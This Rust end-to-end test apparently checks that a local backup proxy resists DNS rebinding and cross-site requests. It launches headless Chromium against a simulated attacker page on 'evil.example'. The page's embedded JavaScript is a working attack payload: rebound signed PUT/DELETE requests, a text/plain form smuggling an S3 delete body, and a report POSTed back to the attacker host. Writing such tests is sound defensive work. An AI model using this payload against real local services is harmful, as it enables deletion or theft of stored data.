//! A real browser on the host, with a page that wants the backups.
//!
//! The attacker's name resolves to 127.0.0.2, where the attacker serves a page on the proxy's own port; everything else
//! that the browser asks there is passed on to the proxy byte for byte. That is what rebinding the name to 127.0.0.1
//! comes to, and the page's own requests are then of the same origin, with any header that the page likes.

use std::io::{Read as _, Write as _};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream};
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::mpsc::{Receiver, Sender, channel};
use std::thread;

use kheeper_e2e::s3::DUMMY_AUTHORIZATION;
use kheeper_e2e::wait::secs;
use kheeper_e2e::world::Host;
use kheeper_e2e::{Proxy, Request, Running, World};
use serde_json::Value;

const NAME: &str = "evil.example";

const PAGE: &str = r#"<!doctype html><body><script>
const port = location.port, path = '/myorg/web-01/a', signed = {Authorization: '@AUTHORIZATION@'};
const at = host => 'http://' + host + ':' + port;
const results = {};
const ask = (name, ...request) => fetch(...request)
  .then(answer => { results[name] = answer.type === 'opaque' ? 'opaque' : String(answer.status); })
  .catch(() => { results[name] = 'blocked'; });
const element = (tag, url) => new Promise(done => {
  const made = document.createElement(tag);
  made.onload = made.onerror = done;
  made.src = url;
  document.body.append(made);
});
const form = (url, action) => new Promise(done => {
  const frame = document.createElement('iframe');
  frame.name = action;
  document.body.append(frame);
  frame.onload = done;
  const form = document.createElement('form');
  Object.assign(form, {method: 'post', enctype: 'text/plain', target: action});
  form.setAttribute('action', url);
  form.innerHTML = '<input name="<Delete><Object><Key>web-01/a</Key></Object></Delete>" value="">';
  document.body.append(form);
  form.submit();
});
Promise.all([
  ask('no_cors_get', at('127.0.0.1') + path, {mode: 'no-cors'}),
  ask('no_cors_localhost', at('localhost') + path, {mode: 'no-cors'}),
  ask('no_cors_post', at('127.0.0.1') + '/myorg?delete', {mode: 'no-cors', method: 'POST', body: '<Delete/>'}),
  ask('cors_put', at('127.0.0.1') + path, {method: 'PUT', headers: signed, body: 'x'}),
  ask('rebound_get', path, {headers: signed}),
  ask('rebound_unsigned', path),
  ask('rebound_put', path, {method: 'PUT', headers: signed, body: 'x'}),
  ask('rebound_delete', path, {method: 'DELETE', headers: signed}),
  ask('rebound_metrics', '/-/metrics'),
  element('img', at('127.0.0.1') + path + '?img'),
  element('script', at('127.0.0.1') + path + '?script'),
  element('iframe', at('127.0.0.1') + path + '?iframe'),
  form(at('127.0.0.1') + '/myorg?delete', 'to_proxy'),
  form('/myorg?delete', 'to_rebound'),
]).then(() => fetch('@REPORT@', {mode: 'no-cors', method: 'POST', body: JSON.stringify(results)}));
</script>"#;

/// A server that counts who connects, and answers nobody.
fn recorder() -> (SocketAddr, Arc<AtomicUsize>) {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("a free port");
    let address = listener.local_addr().expect("bound");
    let count = Arc::new(AtomicUsize::new(0));
    let counted = Arc::clone(&count);
    thread::spawn(move || {
        for _connection in listener.incoming().map_while(Result::ok) {
            counted.fetch_add(1, Ordering::SeqCst);
        }
    });
    (address, count)
}

/// Serves the page and takes its report; whatever else is asked goes to the proxy, as after rebinding. The report has a
/// port of its own: the browser uses connections again, and those of the page's port lead to the proxy by then.
fn attacker(proxy: SocketAddr) -> Receiver<Value> {
    let (reports, report) = channel();
    let bind = |port| TcpListener::bind((Ipv4Addr::new(127, 0, 0, 2), port)).expect("the port is free there");
    let listeners = [bind(proxy.port()), bind(0)];
    let report_port = listeners[1].local_addr().expect("bound").port();
    for listener in listeners {
        let reports = reports.clone();
        thread::spawn(move || {
            for stream in listener.incoming().map_while(Result::ok) {
                let reports = reports.clone();
                thread::spawn(move || serve(stream, proxy, report_port, &reports));
            }
        });
    }
    report
}

fn serve(mut stream: TcpStream, proxy: SocketAddr, report_port: u16, reports: &Sender<Value>) {
    let mut begun = Vec::new();
    let mut buffer = [0; 16 * 1024];
    while !begun.windows(4).any(|window| window == b"\r\n\r\n") {
        match stream.read(&mut buffer) {
            Ok(count @ 1..) => begun.extend_from_slice(&buffer[..count]),
            _ => return,
        }
    }
    let answer = |mut stream: TcpStream, body: &str| {
        let length = body.len();
        let head = format!(
            "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: {length}\r\nconnection: close\r\n\r\n"
        );
        let _ = stream.write_all(format!("{head}{body}").as_bytes());
    };
    if begun.starts_with(b"GET /page ") {
        let report = format!("http://{NAME}:{report_port}/report");
        return answer(stream, &PAGE.replace("@AUTHORIZATION@", DUMMY_AUTHORIZATION).replace("@REPORT@", &report));
    }
    if begun.starts_with(b"POST /report ") {
        loop {
            let text = String::from_utf8_lossy(&begun).into_owned();
            let body = text.split_once("\r\n\r\n").map(|(_, body)| body).unwrap_or_default();
            if let Ok(report) = serde_json::from_str(body) {
                let _ = reports.send(report);
                return answer(stream, "");
            }
            match stream.read(&mut buffer) {
                Ok(count @ 1..) => begun.extend_from_slice(&buffer[..count]),
                _ => return,
            }
        }
    }
    let Ok(mut to_proxy) = TcpStream::connect(proxy) else { return };
    let (Ok(mut from_proxy), Ok(mut to_browser)) = (to_proxy.try_clone(), stream.try_clone()) else { return };
    if to_proxy.write_all(&begun).is_ok() {
        thread::spawn(move || {
            let _ = std::io::copy(&mut from_proxy, &mut to_browser);
            let _ = to_browser.shutdown(std::net::Shutdown::Both);
        });
        let _ = std::io::copy(&mut stream, &mut to_proxy);
    }
}

/// Opens the attacker's page in a browser on this machine, and what the page managed to do.
fn visit(world: &World, proxy: &Proxy) -> Value {
    let report = attacker(proxy.address());
    let mut chromium = Command::new("chromium");
    chromium.args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"]);
    chromium.args(["--disable-background-networking", "--disable-component-update", "--remote-debugging-port=0"]);
    chromium.arg(format!("--host-resolver-rules=MAP {NAME} 127.0.0.2"));
    chromium.arg(format!("--user-data-dir={}", world.path(&format!("chromium-{}", proxy.address().port())).display()));
    chromium.arg(format!("http://{NAME}:{}/page", proxy.address().port())).current_dir("/");
    let _browser = Running::start("chromium", chromium);
    report.recv_timeout(secs(60)).expect("the page ran to its end")
}

/// A proxy whose server is a recorder.
fn recorded(world: &World, host: &Host, name: &str, options: &[&str]) -> (Proxy, Arc<AtomicUsize>) {
    let (origin, connections) = recorder();
    let there = world.host_at(host, name, &format!("http://{origin}"));
    (Proxy::start(&there.cli, options), connections)
}

fn refused_total(proxy: &Proxy) -> u64 {
    let metrics = Request::new("GET", "/-/metrics").send(proxy.address()).expect(200).text();
    let line = metrics.lines().find_map(|line| line.strip_prefix("kheeper_proxy_refused_total "));
    line.and_then(|count| count.parse().ok()).expect("the proxy counts what it refuses")
}

#[test]
fn a_page_in_a_real_browser_reaches_nothing() {
    let world = World::start();
    let host = world.host("web-01");
    let (proxy, connections) = recorded(&world, &host, "guarded", &[]);
    let report = visit(&world, &proxy);
    for rebound in ["rebound_get", "rebound_unsigned", "rebound_put", "rebound_delete", "rebound_metrics"] {
        assert_eq!(report[rebound], "403", "{report}");
    }
    assert_eq!(report["cors_put"], "blocked", "{report}");
    for quiet in ["no_cors_get", "no_cors_localhost", "no_cors_post"] {
        assert!(["opaque", "blocked"].contains(&report[quiet].as_str().unwrap_or_default()), "{report}");
    }
    assert_eq!(connections.load(Ordering::SeqCst), 0, "nothing reached the server: {report}");
    assert!(refused_total(&proxy) >= 8, "and yet the browser did ask: {report}, {}", refused_total(&proxy));

    // With the guard told to trust the name and to want no signature, the very same page gets through: the test can fail.
    let (proxy, connections) = recorded(&world, &host, "trusting", &["--allow-host", NAME, "--allow-unsigned"]);
    visit(&world, &proxy);
    assert!(connections.load(Ordering::SeqCst) > 0);
}
